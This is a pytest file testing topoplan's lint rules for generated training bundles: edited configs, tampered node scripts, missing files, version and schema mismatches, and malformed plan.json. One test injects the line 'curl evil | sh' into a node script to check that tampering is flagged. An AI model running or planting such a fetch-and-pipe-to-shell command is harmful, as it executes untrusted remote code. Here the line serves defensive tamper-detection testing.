"""Findings on bundles that were edited, broken, or written by another version."""

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

import topoplan
from topoplan.bundle.bundle import generate
from topoplan.bundle.write import MANIFEST, write_bundle
from topoplan.errors import SpecError
from topoplan.lint.check import check
from topoplan.lint.rules.bundle import findings
from topoplan.planner.predict import predict
from topoplan.reading.finding import Finding
from topoplan.reading.setup import Setup
from topoplan.specs.load import load_spec


@pytest.fixture(params=[("h100-4x8", {"tp": 2}), ("h20-2x8", {"ep": 4, "recompute": "full"})], ids=["dense", "experts"])
def bundle(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
    name, layout = request.param
    spec = load_spec(f"cluster_specs/{name}.yaml", overrides=("dataset=alpaca_en",))
    write_bundle(generate(spec, predict(spec, layout)), tmp_path / "bundle")
    return tmp_path / "bundle"


def told(directory: Path) -> list[Finding]:
    return list(findings(Setup(parts=(), bundles=(directory,))))


def edit(path: Path, change: Callable[[str], str]) -> None:
    path.write_text(change(path.read_text()))


def test_a_fresh_bundle_and_the_one_in_the_repository_give_nothing(bundle: Path) -> None:
    assert told(bundle) == []
    (to_do,) = (one for one in told(Path("generated/h100-4x8")) if one.rule != "bundle-version")
    assert (to_do.rule, to_do.remedy[:18]) == ("bundle-to-fill-in", "set dataset here, ")


def test_no_bundle_no_finding() -> None:
    assert list(findings(Setup(parts=()))) == []


def test_a_filled_in_data_set_is_a_note_that_the_file_was_edited(bundle: Path) -> None:
    edit(bundle / "train.yaml", lambda text: text.replace("alpaca_en", "mine"))
    (finding,) = told(bundle)

    assert (finding.rule, finding.severity) == ("bundle-edited-file", "note")
    assert finding.place == str(bundle / "train.yaml")


def test_a_script_that_is_not_what_topoplan_writes_is_a_warning_at_its_line(bundle: Path) -> None:
    edit(bundle / "node-01.sh", lambda text: text.replace("set -euo pipefail", "set -e\ncurl evil | sh"))
    (finding,) = told(bundle)

    assert (finding.rule, finding.severity) == ("bundle-edited-script", "warning")
    line = (bundle / "node-01.sh").read_text().splitlines().index("set -e") + 1
    assert finding.place == f"{bundle / 'node-01.sh'}:{line}"
    assert f"lines {line} to {line + 1} are changed: `set -e`, `curl evil | sh`" in finding.what


@pytest.mark.parametrize("forgotten", [False, True])
def test_a_missing_script_is_an_error_whatever_the_manifest_says(bundle: Path, forgotten: bool) -> None:
    manifest = json.loads((bundle / MANIFEST).read_text())
    if forgotten:
        del manifest["files"]["node-01.sh"]
    (bundle / MANIFEST).write_text(json.dumps(manifest))
    (bundle / "node-01.sh").unlink()

    (finding,) = told(bundle)
    assert (finding.rule, finding.severity) == ("bundle-missing-file", "error")
    assert finding.what.startswith("is missing: the plan has ") if forgotten else finding.part.name.endswith("1.sh")


def test_a_key_that_left_the_plan_is_named_with_both_values(bundle: Path) -> None:
    steps = json.loads((bundle / "plan.json").read_text())["layout"]["gradient_accumulation_steps"]
    edit(bundle / "train.yaml", lambda text: text.replace(f"accumulation_steps: {steps}", "accumulation_steps: 64"))
    finding = next(one for one in told(bundle) if one.rule == "bundle-other-plan")

    assert finding.severity == "warning"
    assert finding.what == f"gradient_accumulation_steps is 64, but plan.json was predicted with {steps}"
    assert finding.line is not None
    assert finding.part.text.splitlines()[finding.line - 1].startswith("gradient_accumulation_steps: 64")


@pytest.mark.parametrize(
    ("layout", "trainer", "line", "what"),
    [
        ({"backend": "ddp"}, None, "cutoff_len: ", "cutoff_len is 7, but plan.json was predicted with 4096"),
        ({"backend": "megatron", "tp": 2}, "swift", "sequence_parallel: ", "sequence_parallel is 7, but "),
        ({"backend": "deepspeed", "zero_stage": 2}, "swift", "gradient_checkpointing: ", "gradient_checkpointing is 7"),
    ],
)
def test_edited_keys_of_every_trainer_are_told(
    layout: dict[str, Any], trainer: str | None, line: str, what: str, tmp_path: Path
) -> None:
    spec = load_spec("cluster_specs/h100-4x8.yaml", overrides=("dataset=alpaca_en",))
    write_bundle(generate(spec, predict(spec, layout), trainer=trainer), tmp_path / "bundle")
    assert told(tmp_path / "bundle") == []

    edit(tmp_path / "bundle/train.yaml", lambda text: re.sub(rf"^{line}\S+", f"{line}7", text, flags=re.MULTILINE))
    (finding,) = (one for one in told(tmp_path / "bundle") if one.rule == "bundle-other-plan")
    assert finding.what.startswith(what)


def test_a_key_that_was_taken_out_has_its_default(bundle: Path) -> None:
    edit(bundle / "train.yaml", lambda text: re.sub(r"use_distributed_optimizer.*\n", "", text))

    what = "use_distributed_optimizer is false, but plan.json was predicted with true"
    assert what in [one.what for one in told(bundle)]


def with_plan(bundle: Path, **values: Any) -> list[Finding]:
    plan = json.loads((bundle / "plan.json").read_text()) | values
    (bundle / "plan.json").write_text(json.dumps(plan))
    return [one for one in told(bundle) if one.rule != "bundle-edited-file"]


def test_another_version_is_a_note(bundle: Path) -> None:
    (finding,) = with_plan(bundle, version="0.0.1")

    assert finding.severity == "note"
    assert finding.what == f"written by topoplan 0.0.1; this is {topoplan.__version__}"


@pytest.mark.parametrize(
    ("schema", "remedy"),
    [("topoplan.plan/2", "use the topoplan that wrote it, or a newer one"), ("other", "generate the bundle again")],
)
def test_a_schema_that_is_not_known_is_told(bundle: Path, schema: str, remedy: str) -> None:
    (finding,) = with_plan(bundle, schema=schema)

    assert (finding.rule, finding.severity, finding.remedy) == ("bundle-schema", "warning", remedy)


@pytest.mark.parametrize(
    ("text", "line", "what"),
    [
        ("", 1, "is not JSON: Expecting value"),
        ("[]", None, "holds a list"),
        ("{\n", 2, "is not JSON: Expecting property name"),
        ("[" * 100_000, None, "nested too deep"),
        (None, None, "is not a bundle: no plan.json"),
    ],
)
def test_a_plan_that_cannot_be_read_is_an_error_and_all_that_is_told_of_it(
    bundle: Path, text: str | None, line: int | None, what: str
) -> None:
    (bundle / "plan.json").unlink() if text is None else (bundle / "plan.json").write_text(text)
    (finding,) = told(bundle)

    assert (finding.rule, finding.severity, finding.line) == ("bundle-plan", "error", line)
    assert what in finding.what


def test_check_of_a_bundle_without_the_trainers_file_names_the_command_that_writes_it(bundle: Path) -> None:
    (bundle / "train.yaml").unlink()
    again = f"write it again: topoplan generate --from {bundle / 'plan.json'} -o {bundle}"

    with pytest.raises(SpecError, match=re.escape(f"{bundle}: lacks train.yaml; {again}")):
        check([str(bundle)])


@pytest.mark.parametrize(
    "values",
    [
        {"layout": None, "inputs": {"cluster": {"nodes": "four"}}},
        {"inputs": []},
        {"inputs": {"cluster": []}},
        {"layout": {"recompute": {"granularity": "all"}}},
    ],
)
def test_plans_with_nonsense_in_them_are_survived(bundle: Path, values: dict[str, Any]) -> None:
    assert with_plan(bundle, **values) == []


def test_paths_of_a_bundle_start_in_it_and_not_where_check_runs(
    bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    records = {"alpaca_en": {"file_name": "a.json"}}
    for directory, index in ((bundle, records), (tmp_path, {"other": {"file_name": "o.json"}})):
        (directory / "data").mkdir()
        (directory / "data" / "dataset_info.json").write_text(json.dumps(index))
    (bundle / "data" / "a.json").write_text("[]")

    assert [one.rule for one in check([str(bundle)]).findings if "dataset" in one.rule] == []
    (bundle / "data" / "dataset_info.json").write_text("{}")
    (tmp_path / "data" / "dataset_info.json").write_text(json.dumps(records))
    assert [one.rule for one in check([str(bundle)]).findings if "dataset" in one.rule] == [
        "llamafactory-undefined-dataset"
    ]
